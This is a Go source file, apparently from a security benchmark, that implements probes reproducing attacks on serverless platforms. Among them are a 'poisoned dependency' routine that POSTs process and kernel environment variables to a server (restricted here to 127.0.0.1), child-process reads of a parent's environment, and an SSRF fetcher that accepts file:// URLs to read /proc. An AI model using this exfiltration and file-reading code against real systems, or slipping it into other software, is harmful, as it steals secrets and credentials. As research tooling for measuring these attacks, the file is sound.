package probes

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"github.com/dtbench/dtbench/scenarios/probes/evidence"
)

func nothing(context.Context, Inside, json.RawMessage) (any, error) { return nil, nil }

// client never follows the proxy settings of a machine.
var client = http.Client{Transport: &http.Transport{DisableKeepAlives: true}, Timeout: 5 * time.Second}

// Loot is what the poisoned dependency sends home.
type Loot struct {
	Environ     []string `json:"environ"`      // os.Environ
	ProcEnviron []string `json:"proc_environ"` // the kernel's
}

// send is the generic attack of the paper's Fig. 3, left: a dependency takes the
// environment, of the process and of the kernel, and sends it to a server of its
// own by HTTP. The loot is what the environment holds, secrets in the open where
// they are: it goes to the attack's own sink on this machine and nowhere else.
func send(ctx context.Context, _ Inside, args json.RawMessage) (any, error) {
	o, err := decode[struct{ URL string }](args)
	if err != nil {
		return nil, err
	}
	if err := onlyLoopback(o.URL); err != nil {
		return nil, err
	}
	_ = makeDumpable() // where it cannot be done there is nothing to undo
	block, _ := os.ReadFile("/proc/self/environ")
	body, err := json.Marshal(Loot{os.Environ(), strings.Split(string(block), "\x00")})
	if err != nil {
		return nil, err
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, o.URL, bytes.NewReader(body))
	if err != nil {
		return nil, err
	}
	resp, err := client.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	return resp.StatusCode, nil
}

// onlyLoopback keeps attack code on this machine.
func onlyLoopback(address string) error {
	u, err := url.Parse(address)
	if err != nil || u.Hostname() != "127.0.0.1" {
		return errors.New("probes: loot goes to 127.0.0.1 only")
	}
	return nil
}

// tenant is the WebIDE of the paper's section "Security threat analysis of
// serverless platforms": the platform's start-up code needs credentials, clears
// them by the names that it knows, and then runs code of a tenant, which looks
// at its environment: the variables, and what the kernel shows of them.
func tenant(_ context.Context, _ Inside, args json.RawMessage) (any, error) {
	type order struct {
		evidence.Prey
		Clear []string // the names that the clean-up knows
	}
	o, err := decode[order](args)
	if err != nil {
		return nil, err
	}
	for _, name := range o.Clear {
		if err := os.Unsetenv(name); err != nil {
			return nil, err
		}
	}
	var s evidence.Sight
	searchVariables(&s, o.Prey)
	if err := makeDumpable(); err != nil { // as code inside can
		return nil, err
	}
	s.ReadEnvirons("self", o.Prey)
	return s, nil
}

// Outside is an order for the program that looks from another process.
type Outside struct {
	evidence.Prey
	Program string `json:"program"`
}

// child is attack T20: a process that the function starts looks at its parent,
// first as that is, and then with the parent made dumpable, as code inside can.
func child(ctx context.Context, _ Inside, args json.RawMessage) (any, error) {
	o, err := decode[Outside](args)
	if err != nil {
		return nil, err
	}
	var sights [2]evidence.Sight
	if sights[0], err = o.run(ctx, "read", strconv.Itoa(os.Getpid())); err != nil {
		return nil, err
	}
	if err := makeDumpable(); err != nil {
		return nil, err
	}
	sights[1], err = o.run(ctx, "read", strconv.Itoa(os.Getpid()))
	return sights, err
}

// component is the deployment tool of the same section: it loads a component
// that its user's configuration names and runs it, in a process of its own, with
// the environment of the tool. The component reads that, and then the tool's.
func component(ctx context.Context, _ Inside, args json.RawMessage) (any, error) {
	o, err := decode[Outside](args)
	if err != nil {
		return nil, err
	}
	return o.run(ctx, "read", "self", strconv.Itoa(os.Getpid()))
}

// run starts the program with the whole environment, as exec.Command does unless
// it is told otherwise.
func (o Outside) run(ctx context.Context, what string, targets ...string) (s evidence.Sight, err error) {
	cmd := exec.CommandContext(ctx, o.Program, append([]string{what, o.Marker, strconv.Itoa(o.Length)}, targets...)...)
	out, err := cmd.Output()
	if err != nil {
		return s, fmt.Errorf("probes: %s: %w", filepath.Base(o.Program), err)
	}
	return s, json.Unmarshal(out, &s)
}

// fetch is a request that an attacker forges through the function: the server
// side request forgery of OWASP's case of the url-parse library. The scheme is
// what the attacker writes, and a careless client takes "file" as well.
func fetch(ctx context.Context, _ Inside, args json.RawMessage) (any, error) {
	type order struct {
		evidence.Prey
		URLs []string
	}
	o, err := decode[order](args)
	if err != nil {
		return nil, err
	}
	transport := &http.Transport{DisableKeepAlives: true}
	transport.RegisterProtocol("file", fileScheme{})
	forged := http.Client{Transport: transport, Timeout: time.Second}
	var s evidence.Sight
	for _, address := range o.URLs {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, address, nil)
		if err != nil {
			return nil, err
		}
		resp, err := forged.Do(req)
		if err != nil {
			s.Looked(address, 0, err)
			continue
		}
		body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
		resp.Body.Close()
		s.Looked(address, len(body), err)
		s.Search(address, body, o.Prey)
	}
	return s, nil
}

// fileScheme reads what a file URL names. (That of net/http goes by the size of
// the file, which is 0 in /proc.)
type fileScheme struct{}

func (fileScheme) RoundTrip(req *http.Request) (*http.Response, error) {
	f, err := os.Open(req.URL.Path)
	if err != nil {
		return nil, err
	}
	return &http.Response{StatusCode: http.StatusOK, Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1, Body: f, Request: req, ContentLength: -1}, nil
}
